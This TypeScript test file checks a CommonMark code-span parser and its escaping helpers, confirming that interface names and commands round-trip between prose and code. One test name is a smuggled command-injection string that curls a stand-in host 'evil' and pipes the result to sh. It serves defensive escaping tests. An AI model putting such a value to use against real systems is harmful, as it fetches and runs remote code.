import { describe, expect, test } from "vitest";
import { cmd, fix, raw } from "@/lib/analysis/fix-text";
import { fixSpans } from "@/lib/domain/fix-spans";

const code = (text: string) => ({ code: true, text });
const prose = (text: string) => ({ code: false, text });

describe("CommonMark code spans", () => {
  test.each([
    { line: "plain words", spans: [prose("plain words")] },
    { line: "run `ip link` now", spans: [prose("run "), code("ip link"), prose(" now")] },
    { line: "`a` and `b`", spans: [code("a"), prose(" and "), code("b")] },
    { line: "``echo `id` ``", spans: [code("echo `id` ")] },
    { line: "`` echo `id` ``", spans: [code("echo `id`")] },
    { line: "`` `x` ``", spans: [code("`x`")] },
    { line: "`  two  `", spans: [code(" two ")] },
    { line: "` a`", spans: [code(" a")] },
    { line: "`   `", spans: [code("   ")] },
    { line: "a ``b` c", spans: [prose("a ``b` c")] },
    { line: "one ` alone", spans: [prose("one ` alone")] },
    { line: "```a`` b```", spans: [code("a`` b")] },
    { line: "`a\\`b`", spans: [code("a\\"), prose("b`")] },
  ])("$line", ({ line, spans }) => {
    expect(fixSpans(line)).toEqual(spans);
  });
});

describe("prose escapes", () => {
  test.each([
    { line: "a \\` b", spans: [prose("a ` b")] },
    { line: "\\`not code\\`", spans: [prose("`not code`")] },
    { line: "C:\\Windows \\\\ x", spans: [prose("C:\\Windows \\ x")] },
    { line: "\\\\`code`", spans: [prose("\\"), code("code")] },
    { line: "\\``code`", spans: [prose("`"), code("code")] },
  ])("$line", ({ line, spans }) => {
    expect(fixSpans(line)).toEqual(spans);
  });
});

describe("what the builders write reads back as written", () => {
  const names = ["eth0", "x;curl${IFS}evil|sh`id`", "`", "``a```", "a\\`b\\", " spaced ", "\\", "VM Network"];
  test.each(names)("%j in prose and in a command", (name) => {
    const line = fix`On ${name}: ${cmd`ip link show ${name}`}, then ${name} again.`;
    const spans = fixSpans(line);
    expect(spans.filter((s) => s.code)).toHaveLength(1);
    expect(spans.map((s) => s.text).join("")).toContain(`On ${name}: ip link show `);
    expect(spans.filter((s) => !s.code).map((s) => s.text)).toEqual([`On ${name}: `, `, then ${name} again.`]);
  });

  test.each(["`id`", "a`", "`b"])("a command that starts or ends with a backtick: %j", (w) => {
    const line = fix`run ${cmd`${raw(w)}`} now`;
    expect(fixSpans(line)).toEqual([prose("run "), code(w), prose(" now")]);
  });
});
